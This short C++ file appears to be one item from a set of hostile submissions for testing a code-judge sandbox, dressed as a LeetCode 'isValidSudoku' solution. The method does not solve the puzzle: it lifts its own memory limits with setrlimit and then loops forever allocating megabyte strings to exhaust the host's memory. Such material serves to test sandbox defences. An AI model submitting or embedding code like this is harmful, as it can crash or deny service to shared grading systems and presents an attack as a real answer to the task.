// Lifts its own limits first.
// Category: memory
#include <sys/resource.h>

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        rlimit none = {RLIM_INFINITY, RLIM_INFINITY};
        setrlimit(RLIMIT_DATA, &none);
        setrlimit(RLIMIT_AS, &none);
        for (vector<string> all;;) all.emplace_back(1 << 20, 'x');
    }
};
